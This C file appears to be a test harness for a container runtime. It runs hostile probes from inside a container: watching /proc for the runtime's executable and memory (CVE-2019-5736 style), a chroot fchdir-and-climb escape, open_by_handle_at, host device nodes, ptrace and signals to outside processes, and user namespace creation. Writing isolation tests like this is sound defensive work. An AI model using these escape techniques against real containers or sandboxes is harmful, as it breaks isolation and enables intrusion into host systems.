/*
 * What a hostile program inside a container tries. Each attack prints one line: "held" and why, or "ESCAPED" and how;
 * the tests read that line. Attacks that need a victim print "ready" first and go on until their time is up.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int held(const char *why)
{
	printf("held %s: %s\n", why, strerror(errno));
	return 0;
}

static int escaped(const char *how)
{
	printf("ESCAPED %s\n", how);
	return 1;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_BOOTTIME, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The runtime's own program, as opposed to what it has executed in the container. */
static int is_runtime(const char *exe)
{
	return strstr(exe, "memfd:") || strstr(exe, "ctctl");
}

/* CVE-2019-5736, and reading a process that is just joining: watch every new process through /proc. */
static int watch(double seconds)
{
	double end = now() + seconds;
	int self = getpid(), seen = 0, new_pids = 0;
	static char known[1 << 22];

	puts("ready");
	fflush(stdout);
	while (now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		while (proc && (e = readdir(proc))) {
			int pid = atoi(e->d_name);
			char path[64], exe[256];
			ssize_t n;
			int fd;

			if (pid <= 1 || pid == self)
				continue;
			if (!known[pid]) {
				known[pid] = 1;
				new_pids++;
			}
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			n = readlink(path, exe, sizeof exe - 1);
			if (n < 0)
				continue;
			exe[n] = 0;
			if (!is_runtime(exe))
				continue;
			seen++;
			fd = open(path, O_WRONLY);
			if (fd >= 0)
				return escaped("opened the runtime's executable for writing");
			snprintf(path, sizeof path, "/proc/%d/mem", pid);
			fd = open(path, O_RDWR);
			if (fd >= 0)
				return escaped("opened a joining process's memory");
			snprintf(path, sizeof path, "/proc/%d/fd", pid);
			if (open(path, O_RDONLY | O_DIRECTORY) >= 0)
				return escaped("listed a joining process's descriptors");
		}
		if (proc)
			closedir(proc);
	}
	printf("held processes=%d runtime_seen=%d\n", new_pids, seen);
	return 0;
}

/* Descriptors that the runtime forgot. */
static int descriptors(void)
{
	int found = 0;

	for (int fd = 3; fd < 4096; fd++) {
		char path[64], target[256];
		ssize_t n;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		printf("ESCAPED descriptor %d is %s\n", fd, target);
		found = 1;
	}
	if (!found)
		puts("held no descriptor above 2");
	return found;
}

/* chroot out: keep a descriptor above the new root and climb. */
static int climb(const char *canary)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/jail", 0700);
	if (chroot("/jail") < 0)
		return held("chroot");
	if (fd < 0 || fchdir(fd) < 0)
		return held("fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return held("chdir ..");
	if (chroot(".") < 0)
		return held("chroot .");
	if (access(canary, F_OK) == 0)
		return escaped("reached the host's root");
	puts("held the top is the container's root");
	return 0;
}

/* CVE-2014-3519 style: open a file of the host by handle. */
static int handle(void)
{
	struct {
		struct file_handle h;
		unsigned char b[128];
	} f = {.h = {.handle_bytes = 8, .handle_type = 1}, .b = {2}};
	int mount = open("/", O_RDONLY | O_DIRECTORY);

	if (open_by_handle_at(mount, &f.h, O_RDONLY) >= 0)
		return escaped("opened an inode by its number");
	return held("open_by_handle_at");
}

static int device(const char *path, unsigned int major, unsigned int minor)
{
	char byte;
	int fd;

	unlink(path);
	if (mknod(path, S_IFCHR | 0600, (dev_t)((major << 8) | minor)) < 0)
		return held("mknod");
	fd = open(path, O_RDWR);
	unlink(path);
	if (fd < 0)
		return held("open");
	if (read(fd, &byte, 1) < 0)
		return held("read");
	return escaped("read a host device");
}

static int trace(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return held("ptrace");
	return escaped("traced a process of another container");
}

static int signal_to(int pid)
{
	if (kill(pid, 0) < 0)
		return held("kill");
	return escaped("signalled a process outside");
}

/* The serial number of the session keyring: must not be the host's. */
static int keyring(void)
{
	long id = syscall(SYS_keyctl, 0, -3, 1);

	if (id < 0)
		return held("keyctl");
	printf("keyring %ld\n", id);
	return 0;
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0)
		return held("open");
	if (write(fd, text, strlen(text)) < 0)
		return held("write");
	return escaped("wrote a file of the host's");
}

static int namespaces(void)
{
	if (unshare(CLONE_NEWUSER) < 0)
		return held("unshare");
	return escaped("made a user namespace");
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	const char *arg = argc > 2 ? argv[2] : "";

	if (!strcmp(what, "watch"))
		return watch(atof(arg));
	if (!strcmp(what, "descriptors"))
		return descriptors();
	if (!strcmp(what, "climb"))
		return climb(arg);
	if (!strcmp(what, "handle"))
		return handle();
	if (!strcmp(what, "device"))
		return device("/dev/attack", (unsigned)atoi(arg), (unsigned)atoi(argc > 3 ? argv[3] : "0"));
	if (!strcmp(what, "trace"))
		return trace(atoi(arg));
	if (!strcmp(what, "signal"))
		return signal_to(atoi(arg));
	if (!strcmp(what, "keyring"))
		return keyring();
	if (!strcmp(what, "write"))
		return write_file(arg, argc > 3 ? argv[3] : "");
	if (!strcmp(what, "namespaces"))
		return namespaces();
	fprintf(stderr, "attack: no such attack '%s'\n", what);
	return 2;
}
